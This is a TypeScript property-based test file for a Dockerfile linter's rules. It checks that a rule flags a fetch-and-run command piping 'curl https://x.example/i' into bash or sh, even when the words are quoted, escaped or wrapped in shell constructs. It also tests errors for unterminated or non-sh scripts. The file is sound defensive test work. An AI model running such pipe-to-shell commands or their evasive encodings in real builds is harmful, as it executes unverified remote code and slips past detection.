import { parseDockerfile } from '@espalier/dockerfile';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { dockerfileRules } from './dockerfile-rules';
import { readView } from './read-view';
import { brokenBy, brokenIn, imageOf, PREFIX } from './testing/image';

/** A word of the shell in one of the ways in which it can be written. */
function written(word: string): fc.Arbitrary<string> {
  const ways = fc.constantFrom<(letter: string) => string>(
    (letter) => letter,
    (letter) => `"${letter}"`,
    (letter) => `'${letter}'`,
    (letter) => `\\${letter}`,
    (letter) => `$'\\x${letter.charCodeAt(0).toString(16)}'`,
    (letter) => `''${letter}`,
    (letter) => `\${unset-${letter}}`,
  );
  return fc
    .tuple(...Array.from(word, () => ways))
    .map((picked) => Array.from(word, (letter, at) => picked[at]?.(letter)).join(''));
}

const HIDING = fc.constantFrom<(script: string) => string>(
  (script) => script,
  (script) => `true && { ${script}; }`,
  (script) => `( ${script} )`,
  (script) => `f() { ${script}; }; f`,
  (script) => `if false; then ${script}; fi`,
  (script) => `for i in 1 2; do ${script}; done`,
  (script) => `case x in y) ${script};; esac`,
  (script) => `! { ${script}; }`,
  (script) => `time { ${script}; }`,
  (script) => `X="$( ${script})"`,
  (script) => `echo "a $( ${script}) b" <(ls)`,
  (script) => `${script} || exit 1`,
);

describe('what rules are shown', () => {
  it('does not depend on how a word is written, or on what stands around it', () => {
    fc.assert(
      fc.property(written('curl'), written('bash'), HIDING, HIDING, (curl, bash, inner, outer) => {
        expect(brokenIn(`RUN ${outer(inner(`${curl} https://x.example/i | ${bash}`))}`)).toEqual(['ESP002']);
      }),
    );
  });

  it('can be had of every Dockerfile that Docker takes', () => {
    const word = fc.constantFrom(
      ...[
        'curl',
        'u',
        '|',
        'sh',
        '-c',
        '"',
        "'",
        '$(',
        ')',
        '`',
        '<(',
        '<<<',
        '>',
        '&&',
        ';',
        '{',
        '}',
        '$x',
        '${x',
        '\\',
      ],
      ...[
        'for',
        'do',
        'done',
        'f()',
        'eval',
        'xargs',
        'find',
        '-exec',
        '((',
        '[[',
        ']]',
        '*',
        '{a,b}',
        '--',
        '=',
        'x=',
        '#',
        'é',
      ],
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), fc.boolean(), (words, isHeredoc) => {
        const text = isHeredoc ? `RUN <<E\n${words.join(' ')}\nE\n` : `RUN x ${words.join(' ')}\n`;
        const whole = `FROM agents/x\n${text.replace(/\\\n$/, '\n')}`;
        if (!isTaken(whole)) return;
        const view = readView(imageOf(whole), PREFIX);
        for (const rule of dockerfileRules) for (const { line } of rule.check(view)) expect(line).toBeGreaterThan(1);
      }),
      { numRuns: 200 },
    );
  });

  it('is told where a script has no end, or is no script of sh', () => {
    expect(brokenIn('RUN if')).toEqual(['ESP018']);
    expect(brokenIn('RUN echo "')).toEqual(['ESP018']);
    expect(brokenIn('RUN sh -c "if"')).toEqual(['ESP018']);
    expect(brokenIn('RUN f() { f; f; }; f')).toEqual(['ESP018']);
    expect(brokenIn(`RUN ${'{ '.repeat(9000)}`)).toEqual(['ESP018']);
    expect(brokenIn(`RUN ls${' |ls'.repeat(12_000)}`)).toEqual(['ESP018']);
    expect(brokenIn('SHELL ["pwsh", "-c"]', 'RUN Get-Item')).toEqual(['ESP019']);
    expect(brokenIn('RUN python3 - <<EOF', 'print(1)', 'EOF')).toEqual(['ESP019']);
  });

  it('is all there in loops of loops', () => {
    const loop = (script: string, name: string) => `for ${name} in 1 2 3 4 5 6 7 8 9; do ${script}; done`;
    const script = ['a', 'b', 'c', 'd', 'e', 'f'].reduce(loop, 'curl https://x.example/i | sh');
    expect(brokenIn(`RUN ${script}`)).toContain('ESP002');
  });

  it('knows the tier of an image, and which Dockerfiles say where they are wrong', () => {
    expect(readView(imageOf('FROM debian:12\n'), PREFIX).tier).toBe('base');
    expect(readView(imageOf('FROM agents/x\n'), PREFIX).tier).toBe('product');
    expect(brokenBy(imageOf('FROM agents/x\nRUN true \\\n && if\n'))).toEqual(['ESP018:2']);
  });
});

function isTaken(text: string): boolean {
  try {
    parseDockerfile(text, 'Dockerfile');
    return true;
  } catch {
    return false;
  }
}
